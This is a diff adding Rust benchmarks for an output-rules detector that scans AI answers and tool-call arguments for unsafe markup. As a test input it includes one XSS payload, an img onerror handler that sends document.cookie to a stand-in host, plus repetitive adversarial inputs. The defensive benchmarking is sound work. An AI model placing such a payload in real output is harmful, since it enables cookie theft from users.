@@ -6,6 +6,9 @@
 //! after the other on one core; `full_shared` is the same with the rules and
 //! the keyword lists sharing one normalization.
 //!
+//! `output_rules` and `output_adversarial` measure `rules.output` on
+//! answers (text and tool-call arguments).
+//!
 //! `cargo bench -p menshen-benches --bench rules_scan`
 #![allow(missing_docs, clippy::expect_used, clippy::unwrap_used)]
 
@@ -13,6 +16,7 @@ use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criteri
 use menshen_benches::prompt_text as text;
 use menshen_classifiers::keywords::{KeywordDetector, KeywordList};
 use menshen_classifiers::normalize::Normalizer;
+use menshen_classifiers::output_rules::OutputRulesDetector;
 use menshen_classifiers::pii::{PiiConfig, PiiDetector};
 use menshen_classifiers::rules::RuleDetector;
 use menshen_classifiers::secrets::SecretsDetector;
@@ -157,9 +161,60 @@ fn b64(s: &str) -> String {
     out
 }
 
+/// `rules.output` on answers: prose with and without unsafe markup, as
+/// answer text and as tool-call arguments, and inputs that would be
+/// quadratic for a naive markdown or match scan.
+fn bench_output(c: &mut Criterion) {
+    let det = OutputRulesDetector::builtin().expect("output rules load");
+    let mut g = c.benchmark_group("output_rules");
+    for &size in &[1024usize, 16 * 1024] {
+        for &attacks in &[false, true] {
+            let mut t = text(size, attacks);
+            if attacks {
+                t.push_str(" <img src=x onerror=\"fetch('//x.example/'+document.cookie)\">");
+            }
+            let label = format!(
+                "{}KiB/{}",
+                size / 1024,
+                if attacks { "findings" } else { "clean" }
+            );
+            g.throughput(Throughput::Bytes(t.len() as u64));
+            g.bench_with_input(BenchmarkId::new("answer", &label), &t, |b, t| {
+                b.iter(|| black_box(det.scan_answer(black_box(t), None)))
+            });
+            let args = serde_json::json!({ "command": t }).to_string();
+            g.bench_with_input(BenchmarkId::new("tool_arguments", &label), &args, |b, t| {
+                b.iter(|| black_box(det.scan_tool_arguments(black_box(t))))
+            });
+        }
+    }
+    g.finish();
+    let mut g = c.benchmark_group("output_adversarial");
+    let cases = [
+        (
+            "backtick_runs",
+            (1..=600).map(|n| "`".repeat(n) + "x").collect::<String>(),
+        ),
+        ("open_tags", "<a x ".repeat(32 * 1024)),
+        ("image_prefixes", "![a](http://h/p?q=".repeat(10 * 1024)),
+        ("fence_lines", "```\n<script>x</script>\n".repeat(8 * 1024)),
+        ("escapes", "\\n\\u0041\\\"".repeat(16 * 1024)),
+    ];
+    for (name, input) in &cases {
+        g.throughput(Throughput::Bytes(input.len() as u64));
+        g.bench_with_input(BenchmarkId::new("answer", name), input, |b, t| {
+            b.iter(|| black_box(det.scan_answer(black_box(t), None)))
+        });
+        g.bench_with_input(BenchmarkId::new("tool_arguments", name), input, |b, t| {
+            b.iter(|| black_box(det.scan_tool_arguments(black_box(t))))
+        });
+    }
+    g.finish();
+}
+
 criterion_group! {
     name = benches;
     config = Criterion::default().sample_size(20).measurement_time(std::time::Duration::from_secs(3)).warm_up_time(std::time::Duration::from_secs(1));
-    targets = bench_rules
+    targets = bench_rules, bench_output
 }
 criterion_main!(benches);
